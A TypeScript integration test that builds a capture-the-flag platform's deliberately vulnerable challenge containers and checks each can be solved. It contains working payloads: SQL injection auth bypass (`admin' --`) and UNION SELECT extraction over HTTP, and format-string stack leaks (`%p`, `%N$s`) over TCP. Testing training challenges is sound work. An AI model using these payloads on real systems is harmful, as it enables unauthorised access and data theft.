import { createConnection } from 'node:net';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { eventually } from '../../../test/eventually.js';

import { createContainerEngineProvider } from './container-engine-provider.js';
import { createEngineApi } from './engine-api.js';
import type { InstanceProvider, InstanceSpec } from './provider.js';
import { buildPackImages } from './test-support/pack-images.js';
import { reportSkip, skipReason, startPodmanEngine, TEST_POOL } from './test-support/podman-engine.js';

/**
 * The built-in pack's services (docs/operations.md "The built-in pack's services"), built as the server builds them
 * when it loads the pack (test-support/pack-images.ts), run by the local engine's provider as any instance (non-root,
 * read-only, no capabilities, its own network) and attacked as a student would: the SQL injection over HTTP, the format
 * string over TCP. Runs under scripts/test-instances.sh; skipped elsewhere, saying why.
 */
reportSkip('pack services suite');

/** Sends `line` once the service has greeted, and reads everything until it closes the connection. */
const talk = (port: number, line: string) =>
  new Promise<string>((resolve, reject) => {
    const socket = createConnection({ host: '127.0.0.1', port, timeout: 10_000 });
    let text = '';
    let sent = false;
    socket.on('data', (chunk) => {
      text += chunk.toString('latin1');
      if (!sent && text.includes(':\n')) {
        sent = true;
        socket.write(`${line}\n`);
      }
    });
    socket.on('timeout', () => socket.destroy(new Error('no answer')));
    socket.on('close', () => resolve(text));
    socket.on('error', reject);
  });

describe.skipIf(skipReason !== undefined)("the built-in pack's services, attacked for real", () => {
  let engine: Awaited<ReturnType<typeof startPodmanEngine>> | undefined;
  let provider: InstanceProvider;
  let images: Map<string, string>;
  const started: string[] = [];
  const spec = (challengeId: string, port: number): InstanceSpec => {
    const id = crypto.randomUUID();
    started.push(id);
    return {
      id,
      image: images.get(challengeId)!,
      port,
      memoryMb: 64,
      cpus: 0.25,
      ownerKey: 'user:student',
      challengeId,
      expiresAt: new Date(Date.now() + 600_000),
      flag: `CTF{pack_${id.slice(0, 8)}}`,
    };
  };

  beforeAll(async () => {
    engine = await startPodmanEngine();
    images = await buildPackImages(engine.socketPath);
    provider = createContainerEngineProvider({
      api: createEngineApi({ socketPath: engine.socketPath }),
      publishHost: '127.0.0.1',
      endpointHost: '127.0.0.1',
      subnetPool: TEST_POOL,
      deployment: `pack-${crypto.randomUUID().slice(0, 8)}`,
    });
  }, 600_000);

  afterAll(async () => {
    for (const id of started) await provider?.delete(id).catch(() => undefined);
    engine?.stop();
  }, 60_000);

  it('SQL injection: a wrong password is refused, a quote shows the database error, and `admin --` opens the vault', async () => {
    const wanted = spec('sql-injection-extraction', 8080);
    const { endpoint } = await provider.create(wanted);
    const base = `http://127.0.0.1:${endpoint!.port}`;
    const login = (username: string, password: string) =>
      fetch(`${base}/login`, { method: 'POST', body: new URLSearchParams({ username, password }) });
    const refused = await eventually(() => login('admin', 'guess'));
    expect(refused.status).toBe(401);
    expect(await refused.text()).not.toContain(wanted.flag);
    const broken = await login("'", 'x');
    expect(broken.status).toBe(500);
    expect(await broken.text()).toMatch(/Database error: unrecognized token/);
    const injected = await login("admin' --", 'x');
    expect(injected.status).toBe(200);
    expect(await injected.text()).toContain(`<code id="secret">${wanted.flag}</code>`);
    // sqlmap's way works too: a UNION through the query string.
    const union = await fetch(
      `${base}/login?${new URLSearchParams({ username: "x' UNION SELECT 1, secret, 'user' FROM vault --" })}`,
    );
    expect(await union.text()).toContain(`Welcome, ${wanted.flag}.`);
  }, 120_000);

  it('format string: %p leaks the stack, %N$s prints the flag, and a crash ends that connection only', async () => {
    const wanted = spec('format-string', 1337);
    const { endpoint } = await provider.create(wanted);
    const port = endpoint!.port;
    expect(await eventually(() => talk(port, 'hello'))).toContain('hello');
    expect(await talk(port, '%p.%p.%p')).toMatch(/0x[0-9a-f]+/);
    let found: number | undefined;
    for (let n = 6; n <= 40 && found === undefined; n++) {
      if ((await talk(port, `%${n}$s`)).includes(wanted.flag)) found = n;
    }
    expect(found).toBeDefined();
    // The service is still up after the wrong guesses that crashed their connections.
    expect(await talk(port, 'still there')).toContain('still there');
  }, 120_000);
});
